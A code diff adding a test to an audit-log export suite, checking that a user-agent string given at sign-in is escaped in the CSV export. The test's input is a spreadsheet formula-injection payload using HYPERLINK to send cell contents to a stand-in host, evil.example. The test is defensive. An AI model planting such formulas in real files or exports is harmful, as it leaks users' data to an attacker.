@@ -348,6 +348,27 @@ describe('the trail itself', () => {
     expect(await eventsOf(tenant.organizationId, 'audit.export')).toHaveLength(1);
   });
 
+  it('exports what clients wrote (their user agent) as text, never as a spreadsheet formula', async () => {
+    const tenant = await createTenant(t.app);
+    await t.app.inject({
+      method: 'POST',
+      url: '/api/auth/sign-in/email',
+      headers: { 'user-agent': '=HYPERLINK("http://evil.example/?x="&A1,"click")' },
+      payload: { email: tenant.users.operator.email, password: 'not-the-password-at-all' },
+    });
+    await settled();
+    const res = await as(
+      t.app,
+      tenant.users.admin.token,
+    )({
+      method: 'GET',
+      url: '/api/v1/audit-events/export.csv?action=auth.sign-in&outcome=failed',
+    });
+    const row = res.body.trim().split('\n')[1]!;
+    expect(row).toContain(`"'=HYPERLINK(`);
+    expect(row).not.toMatch(/,"?=HYPERLINK/);
+  });
+
   it('verifies, and names the row that was changed behind the application', async () => {
     const tenant = await createTenant(t.app);
     const admin = as(t.app, tenant.users.admin.token);
